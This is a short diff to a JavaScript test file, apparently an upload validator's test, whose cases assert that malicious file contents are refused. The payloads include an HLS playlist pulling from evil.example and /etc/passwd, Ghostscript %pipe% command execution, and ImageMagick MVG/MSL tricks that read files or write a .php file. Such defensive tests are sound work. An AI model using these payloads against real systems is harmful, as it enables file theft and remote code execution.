@@ -77,6 +77,8 @@ describe('contents', () => {
     '#EXTM3U\n#EXTINF:10.0,\nconcat:http://evil.example/h.txt|file:///etc/passwd\n#EXT-X-ENDLIST',
     "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'label:@/etc/x'\npop graphic-context",
     '%!PS\nuserdict /setpagedevice undef\n(%pipe%id) (w) file',
+    'userdict /setpagedevice undef\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops',
+    '#EXTM3U\n#EXTINF:10,\nfile:/etc/passwd\n',
     '<?xml version="1.0"?><image><read filename="caption:x"/><write filename="/www/x.php"/></image>',
   ])('%s are refused', (content) => {
     expect(refused('filename="a.txt"', 'text/plain', content)).toBe(true)
